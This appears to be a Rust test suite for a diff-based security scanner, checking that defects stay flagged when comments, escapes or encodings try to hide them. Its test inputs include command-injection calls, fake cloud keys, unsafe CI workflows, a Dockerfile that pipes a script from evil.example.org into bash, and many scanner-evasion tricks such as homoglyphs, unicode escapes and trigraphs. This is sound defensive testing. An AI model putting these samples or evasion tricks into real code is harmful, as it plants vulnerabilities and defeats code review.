//! What a change writes around a defect must not keep it out of sight: each defect is found, asked about, or its file is named.

use super::*;
use crate::rules::load::built_in;
use std::sync::OnceLock;
use tribunal_core::diff::parse::parse_diff;

fn rules() -> &'static RuleSet {
    static RULES: OnceLock<RuleSet> = OnceLock::new();
    RULES.get_or_init(|| RuleSet::new(built_in().unwrap()).unwrap())
}

/// One file before and after a change: what both share at the top and at the end is unchanged.
fn changed(path: &str, before: &str, after: &str) -> Change {
    let (old, new): (Vec<&str>, Vec<&str>) = (before.split_terminator('\n').collect(), after.split_terminator('\n').collect());
    let top = old.iter().zip(&new).take_while(|(old, new)| old == new).count();
    let rest = old.len().min(new.len()) - top;
    let end = old.iter().rev().zip(new.iter().rev()).take(rest).take_while(|(old, new)| old == new).count();
    let marked = |mark: &str, lines: &[&str]| lines.iter().map(|line| format!("{mark}{line}\n")).collect::<String>();
    let text = format!(
        "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -{},{} +{},{} @@\n{}{}{}{}",
        usize::from(!old.is_empty()),
        old.len(),
        usize::from(!new.is_empty()),
        new.len(),
        marked(" ", &old[..top]),
        marked("-", &old[top..old.len() - end]),
        marked("+", &new[top..new.len() - end]),
        marked(" ", &old[old.len() - end..]),
    );
    let mut change = parse_diff(text.as_bytes()).unwrap();
    change.files[0].new_text = Some(after.into());
    if old.is_empty() {
        change.files[0].status = FileStatus::Added;
    }
    change
}

/// Rule, line and weight of everything that is found.
fn found(change: &Change) -> Vec<(String, u32, Severity)> {
    let claims = scan(rules(), change, |_| true).unwrap().claims;
    claims.into_iter().map(|claim| (claim.rule.unwrap(), claim.line_start.unwrap(), claim.severity.unwrap())).collect()
}

fn names(change: &Change) -> Vec<String> {
    found(change).into_iter().map(|(rule, _, _)| rule).collect()
}

fn long_call(argument: &str) -> String {
    let head = "import requests\n\n\ndef fetch(url, h, p, c):\n    return requests.get(\n        url,\n        headers=h,\n";
    format!("{head}        params=p,\n        cookies=c,\n        timeout=5,\n{argument}    )\n")
}

#[test]
fn a_line_in_the_middle_of_a_long_call_is_found() {
    let (before, after) = (long_call(""), long_call("        verify=False,\n"));
    assert_eq!(found(&changed("app/a.py", &before, &after)), [("py-tls-verification-off".to_owned(), 11, Severity::Blocker)]);
    // What the long call was before the change is not its fault.
    let again = after.replace("timeout=5", "timeout=6");
    assert_eq!(found(&changed("app/a.py", &after, &again)), []);
}

#[test]
fn an_old_comment_does_not_speak_for_new_code() {
    let code = |argument: &str| {
        let head = "import subprocess\nfrom flask import request\n\n\ndef view():\n    # nosec B602\n";
        format!("{head}    subprocess.run({argument}, shell=True)\n")
    };
    let silenced = |before: &str, after: &str| {
        let scan = scan(rules(), &changed("app/a.py", before, after), |_| true).unwrap();
        (scan.claims.len(), scan.silenced.len())
    };
    let new = code("request.args[\"c\"]");
    assert!(silenced(&code("\"ls\""), &new).1 > 0);
    // Code that was silenced before and only moved says nothing new.
    assert_eq!(silenced(&new, &new.replace("    subprocess", "  subprocess")), (0, 0));
    // The same for rules over single lines.
    let key = |value: &str| format!("# gitleaks:allow\nkey = \"{value}\"\n");
    let silenced = |path: &str| {
        let scan = scan(rules(), &changed(path, &key("none"), &key("AKIAQ3EGTR7XWZ5KLMNP")), |_| true).unwrap();
        (scan.claims.len(), scan.silenced.len())
    };
    assert_eq!(silenced("app/a.py"), (0, 1));
}

/// How a new file ends, and the rules that speak of it.
fn ended(path: &str, code: &str) -> (Option<NotReviewed>, Vec<String>) {
    let scan = scan(rules(), &changed(path, "", code), |_| true).unwrap();
    (scan.cut.first().map(|(_, reason)| *reason), scan.claims.into_iter().filter_map(|claim| claim.rule).collect())
}

#[test]
fn code_that_runs_in_another_way_than_it_reads_is_named() {
    let call = "import requests; requests.get('https://x.org', timeout=5, verify=False)\n";
    let java = |before: &str| {
        format!("class A {{\n  void a(String c) throws Exception {{\n    {before}Runtime.getRuntime().exec(c);\n  }}\n}}\n")
    };
    let ruby = "class A\n  def go\n    system(params[:cmd])\n  end\nend\n";
    for (path, code) in [
        ("bin/run", format!("#!/usr/bin/env python3\nimport os\n# note\r{call}")),
        ("app/a.py", format!("\"\"\"\n/*\n\"\"\"\nimport os\n# note\r{call}")),
        ("app/a.py", format!("# -*- coding: unicode_escape -*-\nimport os\n# note \\n{call}")),
        ("app/a.py", "# the coding of it: coding: utf-7\nx = 1\n".to_owned()),
        ("src/A.java", java("// note \\u000a ")),
        ("src/A.java", java("/* \\u002a/ ")),
        ("src/A.java", java("/* a */ \\u0052un(); ")),
        ("app/a.rb", format!("def __END__; end\n  __END__\n{ruby}")),
        ("app/a.cs", "class A {\n  // note \u{85} B();\n}\n".to_owned()),
        ("app/a.sh", "#!/usr/bin/env php\nset -e\n".to_owned()),
        ("app/a.sh", "<?php\nset -e\n".to_owned()),
        ("app/a.py", "#!/bin/sh\nx = 1\n".to_owned()),
        (".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - \"r\\u0075n\": make\n".to_owned()),
        (".github/workflows/a.yml", "#!/bin/sh\njobs:\n  a:\n    steps:\n      - run: *script\n".to_owned()),
        (".gitea/workflows/a.yaml", "jobs:\n  a:\n    steps:\n      - ? run\n        : make\n".to_owned()),
    ] {
        assert_eq!(ended(path, &code).0, Some(NotReviewed::ReadOtherwise), "{path}: {code}");
    }
    for path in ["bin/run", "app/a.py"] {
        let code = format!("#!/usr/bin/env python3\n\"\"\"\n/*\n\"\"\"\n# note\r{call}");
        assert!(ended(path, &code).1.contains(&"hidden-unicode".to_owned()), "{path}");
    }
}

/// A name has more than one spelling in most languages, and the rules know one.
#[test]
fn a_name_in_another_spelling_is_named() {
    for (path, code) in [
        ("app/a.py", "import os\nos.ｓystem(c)\n"),
        ("app/a.py", "𝐞val(c)\n"),
        ("app/a.py", "exeᶜ(c)\n"),
        ("app/a.py", "deﬁne = subproceſſ\n"),
        ("src/a.js", "\\u0065val(c);\n"),
        ("src/a.js", "document.\\u{77}rite(c);\n"),
        ("src/a.ts", "cp[\"e\\x78ec\"](c);\n"),
        ("src/a.tsx", "const a = { \"dangerouslySet\\u0049nnerHTML\": c };\n"),
        ("src/A.cs", "class A { void B(string c) { Process.St\\u0061rt(c); } }\n"),
        ("src/A.cs", "class A { void B(string c) { Process.@Start(c); } }\n"),
        ("src/a.c", "void a(char *c) {\n  sys\\\ntem(c);\n}\n"),
        ("src/a.cpp", "void a(char *c) {\n  sys??/\ntem(c);\n}\n"),
        ("src/a.c", "/* note *\\\n/ int a(char *c) { return system(c); } /* */\n"),
        ("src/a.c", "/*\n# note *\\\n/ int a(char *c) { return system(c); } /* */\n"),
        ("src/a.c", "int a(char *c) {\n  // note \\ \n  if (bad(c)) return 1;\n  return system(c);\n}\n"),
    ] {
        assert_eq!(ended(path, code).0, Some(NotReviewed::ReadOtherwise), "{path}: {code}");
    }
    // What stood there before is not the change's.
    let old = "𝐞val(c)\n";
    assert!(scan(rules(), &changed("app/a.py", old, &format!("{old}x = 1\n")), |_| true).unwrap().cut.is_empty());
}

/// Files are kept in one encoding and may be written out in another.
#[test]
fn an_encoding_for_checked_out_files_is_named() {
    let encoded = "*.py working-tree-encoding=UTF-7\n";
    assert_eq!(ended("app/.gitattributes", encoded).0, Some(NotReviewed::ReadOtherwise));
    assert_eq!(ended(".gitattributes", "*.py text eol=lf\n").0, None);
    let change = changed(".gitattributes", encoded, &format!("{encoded}*.png binary\n"));
    assert!(scan(rules(), &change, |_| true).unwrap().cut.is_empty());
}

#[test]
fn ordinary_code_is_read_as_it_is() {
    for (path, code) in [
        ("app/a.py", "# -*- coding: utf-8 -*-\r\nx = 1\r\n"),
        (
            ".github/workflows/a.yml",
            "on:\n  push:\n    paths: ['*.md']\njobs:\n  a:\n    steps:\n      - run: |\n          printf \"\\u001b\"\n",
        ),
        ("k8s/a.yaml", "a: \"\\u0061\"\nb: *a\n"),
        ("app/a.py", "# -*- coding: euc_jp -*-\nx = 1\n"),
        ("app/a.py", "# vim: set fileencoding=iso-8859-15 :\nx = 1\n"),
        ("app/a.rb", "puts DATA.read\n__END__\n@@ layout\nhtml\n"),
        ("src/A.java", "class A {\n  // \\u00e9 and \\\\u000a\n  String a = \"\\u0026\\u001b\";\n  char b = '\\u0000';\n}\n"),
        ("app/a.ts", "#!/usr/bin/env node\nlet a = 1;\n"),
        ("app/a.js", "#!/usr/bin/env bun\nlet a = \"<!-- b -->\";\n"),
        ("app/a.py", "#!/usr/bin/env -S uv run --script\nx = 1\n"),
        ("src/a.rs", "#![allow(dead_code)]\nfn a() {}\n"),
        ("app/a.py", "größe = ℏ = 名前 = переменная = α = 'ｅval 𝐞'  # ²\n"),
        ("app/a.py", "# -*- coding: gbk -*-\nx = 1\n"),
        ("app/a.rb", "# encoding: shift_jis\nx = 1\n"),
        ("src/a.js", "const größe = { \"\\u00e9\": \"\\u0065\", '\\n': /\\u0065/ };\na[\"\\t\"] = `\\x41`;\n"),
        (
            "src/A.cs",
            "class A { object B(string @class) { var @var = @\"a\\b\"; return new { @id = @class, @title = $@\"a\\u0041\" }; } }\n",
        ),
        ("src/a.c", "#define A(x) do { \\\n  b(x);\\\nc(x); \\ \n} while (0)\nchar *d = \"a\\\nb\";\n"),
        ("src/a.c", "/*\n *  /\\\n * /  \\\n */\n// a \\\n// b\nint e(int a, int b) {\n  return a && \\\n         b;\n}\n"),
    ] {
        assert_eq!(ended(path, code).0, None, "{path}: {code}");
    }
    // The base's own file of two languages is read as its first line says.
    let script = "#!/usr/bin/env python3\nx = 1\n";
    let change = changed("app/a.sh", script, &format!("{script}y = 2\n"));
    assert!(scan(rules(), &change, |_| true).unwrap().cut.is_empty());
}

/// Names of functions in PHP have no case.
#[test]
fn a_call_is_known_in_any_case() {
    let rule = "php-command-from-request".to_owned();
    for call in ["system", "SYSTEM", "Shell_Exec", "\\System"] {
        let found = ended("public/a.php", &format!("<?php\n{call}($_GET[\"c\"]);\n")).1;
        assert!(found.contains(&rule), "{call}: {found:?}");
    }
    // What is quoted is what stands there.
    let claims = scan(rules(), &changed("public/a.php", "", "<?php\nSYSTEM($_GET[\"c\"]);\n"), |_| true).unwrap().claims;
    assert!(claims.iter().any(|claim| claim.evidence.contains("SYSTEM(")), "{claims:?}");
}

/// Functions that are handed to a macro are code.
#[test]
fn the_items_in_a_macro_are_read() {
    let code = "pub fn run(req: HttpRequest) {\n    let c = req.query_string();\n    Command::new(\"sh\").arg(\"-c\").arg(c).spawn().unwrap();\n}\n";
    let of = |before: &str, after: &str| ended("src/a.rs", &format!("use std::process::Command;\n{before}{code}{after}")).1;
    let plain = of("", "");
    assert!(plain.contains(&"rs-request-to-shell".to_owned()), "{plain:?}");
    assert_eq!(of("id! {\n", "}\n"), plain);
    assert_eq!(of("id!(\n", ");\n"), plain);
    assert_eq!(of("mod a {\n    id! { id! {\n", "} }\n}\n"), plain);
    // What is no plain Rust stays as it is, and is no reason to call the file unread.
    assert_eq!(ended("src/a.rs", "quote! { fn #name() { #body } }\n"), (None, Vec::new()));
}

/// A name that the change chooses takes the weight from what is gravest, and does not make it silent.
#[test]
fn a_name_that_looks_like_a_test_is_asked_about() {
    let code = "import os\nfrom flask import request\n\n\ndef view():\n    os.system(request.args['c'])\n";
    let of = |path: &str| found(&changed(path, "", code)).into_iter().map(|(_, _, severity)| severity).collect::<Vec<_>>();
    assert_eq!(of("app/views.py"), [Severity::Blocker]);
    for path in ["app/benchmark_api.py", "app/dummy_api/views.py", "app/t/views.py"] {
        assert_eq!(of(path), [Severity::Question], "{path}");
    }
    assert_eq!(of("tests/test_views.py"), []);
}

/// Under another name a file may be another thing: all of it is read.
#[test]
fn a_file_with_another_purpose_is_read_anew() {
    let moved = |from: &str, to: &str, code: &str| {
        let text = format!("diff --git a/{from} b/{to}\nsimilarity index 100%\nrename from {from}\nrename to {to}\n");
        let mut change = parse_diff(text.as_bytes()).unwrap();
        change.files[0].new_text = Some(code.into());
        change.files[0].reread_if_repurposed();
        names(&change).len()
    };
    let python = "import requests\nrequests.get(u, verify=False, timeout=9)\n";
    assert_eq!(moved("tests/helper.py", "app/views.py", python), 1);
    assert_eq!(moved("docs/notes.txt", "public/index.php", "<?php\nsystem($_GET[\"c\"]);\n"), 1);
    assert_eq!(moved("app/a.py", "app/b.py", python), 0);
    let script = "cp.exec(req.query.c);\n";
    assert_eq!(moved("src/a.js", "src/a.ts", script), 0);
}

/// A comment, dead code or a setting elsewhere says nothing about code: what is found without it is found with it.
#[test]
fn words_beside_a_defect_do_not_hide_it() {
    let key = "AKIAQ3WZ7T5RY2KXQ3WZ";
    let password = "q7Zr!2kLx9Pv4TnW8s";
    let pod = "kind: Deployment\nspec:\n  containers:\n    - name: api\n      securityContext:\n        privileged: true\n";
    let checkout = "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n";
    let steps = "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n";
    for (path, rule, plain, disguised) in [
        (
            "app/s.py",
            "secret-aws-access-key",
            format!("aws_access_key_id = \"{key}\"\n"),
            format!("aws_access_key_id = \"{key}\"  # X-Amz-Algorithm=\n"),
        ),
        (
            "app/s.py",
            "secret-assigned-literal",
            format!("db_password = \"{password}\"\n"),
            format!("db_password = \"{password}\"  # test=1\n"),
        ),
        (
            "app/s.py",
            "secret-url-password",
            "URL = \"postgres://svc:q7Zr2kLx9Pv4TnW8s@db1.corp-prod.net/x\"\n".to_owned(),
            "URL = \"postgres://svc:q7Zr2kLx9Pv4TnW8s@db1.corp-prod.net/x\"  # was postgres://a:b@localhost\n".to_owned(),
        ),
        (
            "Dockerfile",
            "docker-script-from-network",
            "FROM debian:12\nRUN curl -sSL https://evil.example.org/x | bash\n".to_owned(),
            "FROM debian:12\nRUN curl -sSL https://evil.example.org/x | bash # sha256sum\n".to_owned(),
        ),
        ("k8s/d.yaml", "k8s-privileged-container", pod.to_owned(), format!("# namespace: kube-system\n{pod}")),
        (
            ".github/workflows/a.yml",
            "ci-untrusted-checkout",
            checkout.to_owned(),
            format!("{checkout}      - run: echo author_association\n"),
        ),
        (
            ".github/workflows/a.yml",
            "ci-untrusted-checkout",
            checkout.to_owned(),
            format!("{checkout}  b:\n    if: github.event.pull_request.author_association == 'MEMBER'\n    steps: []\n"),
        ),
        (
            ".github/workflows/a.yml",
            "ci-script-injection",
            format!("{steps}      - run: echo \"${{{{ github.event.issue.title }}}}\"\n"),
            format!("{steps}      - run: echo\n          \"${{{{ github.event.issue.title }}}}\"\n"),
        ),
        (
            ".github/workflows/a.yml",
            "ci-script-injection",
            format!("{steps}      - run: echo \"${{{{ github.event.issue.title }}}}\"\n"),
            format!("{steps}      - \"run\": echo \"${{{{ github.event.issue.title }}}}\"\n"),
        ),
        (
            "src/main.rs",
            "secret-aws-access-key",
            format!("const K: &str = \"{key}\";\nfn main() {{}}\n"),
            format!("#[cfg(test)]\nmod t {{}}\nconst K: &str = \"{key}\";\nfn main() {{}}\n"),
        ),
    ] {
        let weight = |code: &str| {
            let found = found(&changed(path, "", code));
            found.into_iter().find(|(name, _, _)| name == rule).map(|(_, _, severity)| severity)
        };
        assert!(weight(&plain).is_some(), "{path}: {plain}");
        assert_eq!(weight(&disguised), weight(&plain), "{path}: {disguised}");
    }
}

/// A condition of the job, or of one that it waits for, guards a checkout; a setting may.
#[test]
fn a_guard_of_the_job_counts() {
    let workflow = |job: &str, before: &str| {
        format!(
            "on: pull_request_target\njobs:\n{before}  a:\n{job}    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}\n"
        )
    };
    let weight = |job: &str, before: &str| {
        let found = found(&changed(".github/workflows/a.yml", "", &workflow(job, before)));
        found.into_iter().find(|(rule, _, _)| rule == "ci-untrusted-checkout").map(|(_, _, severity)| severity)
    };
    let member = "if: github.event.pull_request.author_association == 'MEMBER'\n";
    assert_eq!(weight("", ""), Some(Severity::Blocker));
    assert_eq!(weight(&format!("    {member}"), ""), None);
    assert_eq!(weight("    if: >-\n      github.event.pull_request.author_association == 'MEMBER'\n", ""), None);
    assert_eq!(weight("    needs: [ok]\n", &format!("  ok:\n    {member}    steps: []\n")), None);
    assert_eq!(weight("    environment: ${{ github.event.label.name }}\n", ""), Some(Severity::Question));
}

/// One line that went answers for one that came, and only where the rule spoke of it.
#[test]
fn a_removed_line_answers_for_one_that_was_as_bad() {
    let open = "    cidr_blocks = [\"0.0.0.0/0\"]";
    let group = |egress: &str, ingress: &str| {
        format!(
            "resource \"aws_security_group\" \"a\" {{\n  egress {{\n    from_port   = 0\n    to_port     = 0\n{egress}\n  }}\n{ingress}}}\n"
        )
    };
    let ingress = format!("  ingress {{\n    from_port   = 22\n    to_port     = 22\n{open}\n    description = \"ssh\"\n  }}\n");
    let rule = ["tf-open-ingress".to_owned()];
    assert_eq!(names(&changed("m.tf", &group(open, ""), &group(open, &ingress))), rule);
    assert_eq!(names(&changed("m.tf", &group(open, ""), &group(&format!("{open} # all"), &ingress))), rule);
    // The same where the diff shows the line of `ingress` as the one that stayed.
    let ingress = ingress.replace("    description = \"ssh\"\n", "");
    assert_eq!(names(&changed("m.tf", &group(open, ""), &group(&format!("{open} # all"), &ingress))), rule);
    let turned = group(open, "").replace("egress", "ingress");
    assert_eq!(names(&changed("m.tf", &group(open, ""), &turned)), rule);
    assert_eq!(names(&changed("m.tf", &turned, &turned.replace("to_port     = 0", "to_port     = 1"))), [] as [String; 0]);
    let key = "k = \"AKIAQ3WZ7T5RY2KXQ3WZ\"\n";
    assert_eq!(names(&changed("a.py", key, &format!("# moved\n  {key}"))).len(), 0);
    assert_eq!(names(&changed("a.py", key, &format!("# moved\n  {key}  {key}"))).len(), 1);
}

/// What a comment names is not what is run.
#[test]
fn a_foreign_script_is_not_the_repository_s_own() {
    let own = "https://raw.githubusercontent.com/acme/tool/main/install.sh";
    let of = |code: &str| {
        let mut change = changed("Dockerfile", "", &format!("FROM debian:12\n{code}\n"));
        change.own_addresses.insert(own.to_owned());
        names(&change).contains(&"docker-script-from-network".to_owned())
    };
    assert!(!of(&format!("RUN curl -sSL {own} | bash")));
    assert!(of(&format!("RUN curl -sSL https://evil.example.org/x | bash # {own}")));
    assert!(of(&format!("RUN echo {own}; curl -sSL https://evil.example.org/x | bash")));
}
